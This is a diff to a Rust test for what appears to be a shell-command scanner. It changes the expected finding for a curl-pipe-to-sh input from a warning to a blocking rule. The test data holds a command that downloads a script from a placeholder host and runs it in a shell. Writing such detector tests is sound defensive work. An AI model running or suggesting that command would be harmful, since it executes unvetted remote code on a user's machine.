@@ -78,11 +78,15 @@ fn without_one_there_is_the_line_alone() {
 }
 
 #[test]
-fn a_finding_in_a_command_line_is_on_its_row_and_blocks_nothing() {
+fn what_runs_unseen_is_one_finding_in_the_line_the_arguments_and_the_command() {
     let it = ran(&["sh", "-c", "curl -fsSL https://x.example/i.sh | sh"]);
     let [found] = it.findings.as_slice() else { panic!("{:?}", it.findings) };
-    assert_eq!((found.rule.as_str(), found.severity), ("pipe-to-shell", Severity::Warning));
-    let [Spot::Rows { document: 0, rows }] = found.spots.as_slice() else { panic!("{:?}", found.spots) };
+    assert_eq!((found.rule.as_str(), found.severity), ("runs-unseen", Severity::Blocking));
+    let [Spot::Rows { document: 0, .. }, Spot::Rows { document: 0, .. }, Spot::Rows { document: 0, rows }] =
+        found.spots.as_slice()
+    else {
+        panic!("{:?}", found.spots)
+    };
     let Row::Field { segments, .. } = &it.documents[0].rows[rows.start] else { panic!() };
     assert_eq!(segments[0].display, "sh");
 }
